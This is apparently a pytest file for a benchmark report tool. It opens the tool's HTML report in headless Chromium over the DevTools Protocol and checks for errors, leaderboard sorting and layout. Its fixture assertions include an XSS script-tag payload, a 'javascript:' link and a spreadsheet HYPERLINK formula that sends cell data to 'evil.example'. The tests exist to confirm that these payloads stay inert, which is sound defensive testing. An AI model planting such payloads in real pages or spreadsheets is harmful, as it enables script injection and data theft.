"""The HTML report in a real headless Chromium, driven over the Chrome DevTools Protocol.

No browser-automation dependency: Chromium is started with ``--remote-debugging-port=0``, the port is read
from ``DevToolsActivePort``, and a small RFC 6455 client (stdlib sockets) speaks CDP to the page. The page
is opened from ``file://`` (loopback only, nothing else reachable).

Checks: no console error, exception or CSP violation; clicking leaderboard headers (real mouse events at
the header's coordinates) re-sorts the rows; the hostile payloads of the fixture ran nothing; full-page
screenshots in light and dark mode go to ``tests/artifacts/`` (and ``/tmp/report.png``) for a person to look at.

Skipped, with the reason, when no Chromium is installed (Debian: ``apt-get install -y chromium``).
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import shutil
import socket
import struct
import subprocess
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from benchtui.engine.reports import write_reports
from tests.conftest import missing_tool_reason
from tests.support.report_fixture import build_report_batch

ARTIFACTS = Path(__file__).parent / "artifacts"


def _chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
        found = shutil.which(name)
        if found:
            return found
    return None


CHROMIUM = os.environ.get("BENCHTUI_CHROMIUM") or _chromium()
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=missing_tool_reason("chromium"))


class WebSocket:
    """Just enough of RFC 6455 for CDP: one client connection, masked text frames out, any frames in."""

    def __init__(self, url: str, timeout: float = 30.0) -> None:
        assert url.startswith("ws://"), url
        host_port, _, path = url[len("ws://") :].partition("/")
        host, _, port = host_port.partition(":")
        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall(
            f"GET /{path} HTTP/1.1\r\nHost: {host_port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        response = b""
        while b"\r\n\r\n" not in response:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("websocket handshake: connection closed")
            response += chunk
        head, _, self.buffer = response.partition(b"\r\n\r\n")
        if b" 101 " not in head.split(b"\r\n", 1)[0]:
            raise ConnectionError(f"websocket handshake refused: {head[:200]!r}")

    def _read(self, count: int) -> bytes:
        while len(self.buffer) < count:
            chunk = self.sock.recv(max(65536, count - len(self.buffer)))
            if not chunk:
                raise ConnectionError("websocket closed")
            self.buffer += chunk
        data, self.buffer = self.buffer[:count], self.buffer[count:]
        return data

    def send(self, text: str) -> None:
        payload = text.encode()
        mask = os.urandom(4)
        size = len(payload)
        if size < 126:
            header = struct.pack("!BB", 0x81, 0x80 | size)
        elif size < 1 << 16:
            header = struct.pack("!BBH", 0x81, 0x80 | 126, size)
        else:
            header = struct.pack("!BBQ", 0x81, 0x80 | 127, size)
        masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
        self.sock.sendall(header + mask + masked)

    def receive(self) -> str:
        message = b""
        while True:
            first, second = self._read(2)
            opcode, size = first & 0x0F, second & 0x7F
            if size == 126:
                (size,) = struct.unpack("!H", self._read(2))
            elif size == 127:
                (size,) = struct.unpack("!Q", self._read(8))
            mask = self._read(4) if second & 0x80 else b""
            payload = self._read(size)
            if mask:
                payload = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
            if opcode == 0x8:
                raise ConnectionError("websocket closed by the browser")
            if opcode in (0x9, 0xA):  # ping / pong: CDP does not send them; ignore
                continue
            message += payload
            if first & 0x80:
                return message.decode()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


class Page:
    """A CDP session on one page target; records console errors, exceptions and log errors as they come."""

    def __init__(self, ws: WebSocket) -> None:
        self.ws = ws
        self.next_id = 0
        self.events: list[dict[str, Any]] = []

    def call(self, method: str, **params: Any) -> dict[str, Any]:
        self.next_id += 1
        ident = self.next_id
        self.ws.send(json.dumps({"id": ident, "method": method, "params": params}))
        while True:
            message = json.loads(self.ws.receive())
            if message.get("id") == ident:
                if "error" in message:
                    raise RuntimeError(f"{method}: {message['error']}")
                result: dict[str, Any] = message.get("result", {})
                return result
            if "method" in message:
                self.events.append(message)

    def wait_for(self, method: str, timeout: float = 15.0) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        seen = len(self.events)
        for event in self.events:
            if event["method"] == method:
                return event
        while time.monotonic() < deadline:
            message: dict[str, Any] = json.loads(self.ws.receive())
            if "method" in message:
                self.events.append(message)
                if message["method"] == method:
                    return message
        raise TimeoutError(f"no {method} within {timeout} s ({len(self.events) - seen} other events)")

    def evaluate(self, expression: str) -> Any:
        result = self.call("Runtime.evaluate", expression=expression, returnByValue=True, awaitPromise=True)
        if "exceptionDetails" in result:
            raise RuntimeError(f"evaluate failed: {result['exceptionDetails']}")
        return result["result"].get("value")

    def wait_until(self, expression: str, timeout: float = 10.0) -> None:
        """Poll until ``expression`` is true in the page (the page's reactions to events are asynchronous)."""
        deadline = time.monotonic() + timeout
        while not self.evaluate(expression):
            if time.monotonic() > deadline:
                raise TimeoutError(f"still false after {timeout} s: {expression}")
            time.sleep(0.02)

    def problems(self) -> list[str]:
        """Console errors, uncaught exceptions and browser log errors (CSP violations land there)."""
        found = []
        for event in self.events:
            params = event.get("params", {})
            if event["method"] == "Runtime.exceptionThrown":
                found.append(f"exception: {params.get('exceptionDetails')}")
            elif event["method"] == "Runtime.consoleAPICalled" and params.get("type") in ("error", "assert"):
                found.append(f"console.{params.get('type')}: {params.get('args')}")
            elif event["method"] == "Log.entryAdded" and params.get("entry", {}).get("level") == "error":
                found.append(f"log: {params['entry'].get('text')}")
        return found

    def click(self, selector: str) -> None:
        """A real left click (mouse pressed and released) at the centre of the element."""
        box = self.evaluate(
            f"(() => {{ const el = document.querySelector({json.dumps(selector)});"
            " el.scrollIntoView({block: 'center'}); const r = el.getBoundingClientRect();"
            " return {x: r.left + r.width / 2, y: r.top + r.height / 2}; })()"
        )
        for kind in ("mouseMoved", "mousePressed", "mouseReleased"):
            self.call("Input.dispatchMouseEvent", type=kind, x=box["x"], y=box["y"], button="left", clickCount=1)

    def screenshot(self, path: Path, width: int = 1280) -> None:
        self.call("Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False)
        metrics = self.call("Page.getLayoutMetrics")
        height = int(metrics["cssContentSize"]["height"]) + 1
        shot = self.call(
            "Page.captureScreenshot",
            format="png",
            captureBeyondViewport=True,
            clip={"x": 0, "y": 0, "width": width, "height": height, "scale": 1},
        )
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(base64.b64decode(shot["data"]))


@contextlib.contextmanager
def chromium_page() -> Iterator[Page]:
    assert CHROMIUM is not None
    profile = Path(tempfile.mkdtemp(prefix="benchtui-chromium-"))
    process = subprocess.Popen(
        [
            CHROMIUM,
            "--headless",
            "--remote-debugging-port=0",
            "--remote-debugging-address=127.0.0.1",
            f"--user-data-dir={profile}",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--no-default-browser-check",
            "--disable-extensions",
            "--hide-scrollbars",
            "--mute-audio",
            "--force-color-profile=srgb",
            "about:blank",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    ws: WebSocket | None = None
    try:
        port_file = profile / "DevToolsActivePort"
        deadline = time.monotonic() + 30
        while not (port_file.exists() and port_file.read_text().strip()):
            if process.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"Chromium did not start (exit code {process.poll()})")
            time.sleep(0.05)
        port = int(port_file.read_text().split()[0])
        targets: list[dict[str, Any]] = []
        while not targets and time.monotonic() < deadline:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/json/list", timeout=5) as answer:
                targets = [t for t in json.loads(answer.read()) if t.get("type") == "page"]
            time.sleep(0.05)
        ws = WebSocket(targets[0]["webSocketDebuggerUrl"])
        page = Page(ws)
        for domain in ("Page.enable", "Runtime.enable", "Log.enable"):
            page.call(domain)
        yield page
    finally:
        if ws is not None:
            ws.close()
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    batch = build_report_batch(tmp_path_factory.mktemp("results"))
    write_reports(batch)
    return batch.path / "comparison_report.html"


@pytest.fixture(scope="module")
def page(report: Path) -> Iterator[Page]:
    with chromium_page() as opened:
        opened.call("Emulation.setDeviceMetricsOverride", width=1280, height=900, deviceScaleFactor=1, mobile=False)
        opened.call("Page.navigate", url=report.as_uri())
        opened.wait_for("Page.loadEventFired")
        yield opened


def _leaderboard_models(page: Page) -> list[str]:
    value = page.evaluate(
        "Array.from(document.querySelectorAll('#leaderboard-table tbody tr'))"
        ".map(row => row.cells[1].querySelector('b').textContent)"
    )
    assert isinstance(value, list)
    return [str(v) for v in value]


def _sort_state(page: Page) -> dict[str, str]:
    value = page.evaluate(
        "Object.fromEntries(Array.from(document.querySelectorAll('#leaderboard-table thead th'))"
        ".map(th => [th.textContent.trim(), th.getAttribute('aria-sort')]))"
    )
    assert isinstance(value, dict)
    return value


def test_page_loads_without_errors_and_runs_its_script(page: Page) -> None:
    assert page.evaluate("document.title").startswith("benchtui")
    # The script ran (the CSP hash matched): the run filter counted the runs.
    assert page.evaluate("document.getElementById('run-count').textContent") == "8 of 8 runs"
    assert page.evaluate("document.querySelectorAll('details.run').length") == 8
    assert page.problems() == []


def test_hostile_payloads_ran_nothing(page: Page) -> None:
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.evaluate("document.querySelectorAll('img, iframe, object, embed').length") == 0
    assert page.evaluate("document.scripts.length") == 1
    text = page.evaluate("document.body.textContent")
    assert "</script><script>window.__pwned=1</script>" in text
    assert "[link](javascript:window.__pwned=1)" in text
    hrefs = page.evaluate("Array.from(document.querySelectorAll('[href]')).map(e => e.getAttribute('href'))")
    assert all(h.startswith("#run-") or h == "data:," for h in hrefs), hrefs


def test_clicking_headers_sorts_the_leaderboard(page: Page) -> None:
    initial = _leaderboard_models(page)
    # The engine's order: success rate (llama3 2 of 3), then mean time of passed runs, then mean time.
    assert initial == [
        "llama3 (Ollama)",
        "GPT-4o",
        "</script><script>window.__pwned=1</script>",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "Idle (never ran)",
    ]

    page.click("#leaderboard-table thead th:nth-child(2) button")  # Model, text, ascending first
    assert _sort_state(page)["Model"] == "ascending"
    assert _leaderboard_models(page) == sorted(initial, key=str.lower)

    page.click("#leaderboard-table thead th:nth-child(2) button")  # again: descending
    assert _sort_state(page)["Model"] == "descending"
    assert _leaderboard_models(page) == sorted(initial, key=str.lower, reverse=True)

    page.click("#leaderboard-table thead th:nth-child(6) button")  # Time (passed), numeric, nulls last
    state = _sort_state(page)
    assert state["Time\u00a0✓"] == "ascending" and state["Model"] == "none"
    assert _leaderboard_models(page) == [
        "GPT-4o",
        "</script><script>window.__pwned=1</script>",
        "llama3 (Ollama)",
        '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "Idle (never ran)",
    ]

    page.click("#leaderboard-table thead th:nth-child(6) button")  # descending, nulls still last
    assert _leaderboard_models(page)[:3] == ["llama3 (Ollama)", "</script><script>window.__pwned=1</script>", "GPT-4o"]

    page.click("#leaderboard-table thead th:nth-child(1) button")  # back to rank order
    assert _leaderboard_models(page) == initial
    assert page.problems() == []


def test_run_filter_and_matrix_link(page: Page) -> None:
    page.click("#run-filter button[data-status='failed']")
    assert page.evaluate("document.getElementById('run-count').textContent") == "2 of 8 runs"
    page.click("#run-filter button[data-status='all']")
    assert page.evaluate("document.getElementById('run-count').textContent") == "8 of 8 runs"
    page.click("table.matrix a.cell")
    page.wait_until("location.hash !== '' && document.querySelector(location.hash).open")
    page.evaluate(
        "document.querySelectorAll('details.run[open]').forEach(d => d.open = false); "
        "history.replaceState(null, '', location.pathname)"
    )
    assert page.problems() == []


def test_screenshots(page: Page) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    # Screenshots are for looking at, not for committing: the folder ignores itself.
    ignore = ARTIFACTS / ".gitignore"
    if not ignore.exists():
        ignore.write_text("*\n", encoding="utf-8")
    # Open two runs (a hostile one and one with a hint) so their panels show in the picture.
    page.evaluate(
        "document.querySelectorAll('details.run')[0].open = true;"
        "document.querySelectorAll('details.run')[1].open = true;"
        "document.querySelectorAll('details.run')[1].querySelectorAll('details.part')"
        ".forEach(d => d.open = true)"
    )
    page.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": "light"}])
    page.screenshot(ARTIFACTS / "report.png")
    shutil.copyfile(ARTIFACTS / "report.png", Path(tempfile.gettempdir()) / "report.png")
    page.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": "dark"}])
    page.screenshot(ARTIFACTS / "report-dark.png")
    page.call("Emulation.setEmulatedMedia", features=[])
    for name in ("report.png", "report-dark.png"):
        data = (ARTIFACTS / name).read_bytes()
        assert data.startswith(b"\x89PNG") and len(data) > 20_000
    assert page.problems() == []


def test_big_page_builds_run_bodies_on_first_open(tmp_path: Path) -> None:
    from benchtui.engine.reports import html as html_report
    from tests.support.report_fixture import synthetic_report_data

    path = tmp_path / "comparison_report.html"
    path.write_text(html_report.render(synthetic_report_data(html_report.LAZY_RUNS + 100)), encoding="utf-8")
    with chromium_page() as big:
        big.call("Page.navigate", url=path.as_uri())
        big.wait_for("Page.loadEventFired", timeout=60)
        assert big.evaluate("document.querySelectorAll('.run-body').length") == 0  # all still inert templates
        big.click("#run-7 > summary")
        big.wait_until("document.getElementById('run-7').open")
        big.wait_until("document.querySelectorAll('#run-7 > .run-body pre.diff .d-add').length > 0")
        assert big.evaluate("document.querySelectorAll('#run-7 > template').length") == 0
        big.click("table.matrix tbody tr:nth-child(3) a.cell")  # a link to a run opens it and builds its body
        big.wait_until("location.hash !== '' && document.querySelector(location.hash + ' > .run-body') !== null")
        assert big.evaluate("typeof window.__pwned") == "undefined"
        assert big.problems() == []


def test_every_leaderboard_column_is_in_view_at_1280_and_narrow_windows_scroll_it_under_a_sticky_model(
    tmp_path: Path,
) -> None:
    from benchtui.engine.reports import html as html_report
    from benchtui.engine.reports.data import build_report_data

    batch = build_report_batch(tmp_path / "results")
    data = build_report_data(batch)
    # Every column shown: the repairs' too (the fixture's models had the repair off), with a wide count.
    data["aggregates"]["gpt-4o"]["repaired_tool_calls"] = 12345
    path = tmp_path / "comparison_report.html"
    path.write_text(html_report.render(data, batch), encoding="utf-8")
    edges = (
        "(() => { const t = document.getElementById('leaderboard-table');"
        " const heads = Array.from(t.tHead.rows[0].cells).map(c => [c.textContent.trim(),"
        " Math.round(c.getBoundingClientRect().left), Math.round(c.getBoundingClientRect().right)]);"
        " return {width: document.documentElement.clientWidth, page: document.documentElement.scrollWidth,"
        " table: t.scrollWidth, wrap: t.parentElement.clientWidth, heads: heads}; })()"
    )

    def load(opened: Page, width: int) -> None:
        opened.call("Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False)
        opened.call("Page.navigate", url=path.as_uri())
        opened.wait_for("Page.loadEventFired")

    for width in (1280, 1920):
        with chromium_page() as opened:
            load(opened, width)
            seen = opened.evaluate(edges)
            heads = {name: (left, right) for name, left, right in seen["heads"]}
            assert {"Cost", "Cache", "Runaway", "Repaired"} <= set(heads)
            assert heads["Cost"][1] <= seen["width"], seen
            assert all(right <= seen["width"] for _left, right in heads.values()), seen
            assert seen["table"] <= seen["wrap"], seen  # nothing to scroll to
            assert seen["page"] <= seen["width"], seen
            assert opened.problems() == []
    with chromium_page() as opened:
        load(opened, 600)
        seen = opened.evaluate(edges)
        assert seen["page"] <= seen["width"], seen  # the table scrolls inside its card, not the page
        assert seen["table"] > seen["wrap"]
        model_left = {name: left for name, left, _right in seen["heads"]}["Model"]
        opened.evaluate("document.getElementById('leaderboard-table').parentElement.scrollLeft = 400")
        scrolled = {name: left for name, left, _right in opened.evaluate(edges)["heads"]}
        assert scrolled["Model"] == model_left and scrolled["#"] < model_left  # rank and model stay in view
        assert scrolled["Success"] < model_left  # the figures slid under them
        assert opened.problems() == []
